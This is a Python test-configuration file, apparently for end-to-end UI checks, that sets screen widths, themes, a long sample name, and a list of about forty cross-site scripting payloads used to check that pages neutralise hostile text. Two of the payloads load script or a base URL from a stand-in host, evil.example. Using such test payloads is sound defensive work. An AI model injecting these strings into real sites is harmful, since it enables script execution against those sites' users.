"""How every page is looked at, and what is shown on it to try it: long names and hostile texts."""

import os

# Width, and what the person likes; two that differ in both where a run is to be short.
LOOKS = [(390, "light"), (1440, "dark"), (390, "dark"), (1440, "light")]
# Where the same pages are looked at once more in German: words are longer there, and run short on a narrow screen first.
WIDTHS = [390, 1440]
if int(os.environ.get("E2E_SPARE", "1")) > 1:
    LOOKS, WIDTHS = LOOKS[:2], WIDTHS[:1]
LONG_NAME = "Wolfeschlegelsteinhausenbergerdorff Hubert Blaine of Schweinfurt-Oberndorf"
# What has run in some page or other. Each would call `alert`, which the page has turned into a note.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example></script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x",
    "<input onfocus=alert(1) autofocus>",
    '" onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    '" onmouseover=alert(1) x="',
    "<select onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>",
    "\u2028<template><script>alert(1)</script></template>&lt;script&gt;alert(1)&lt;/script&gt;",
]
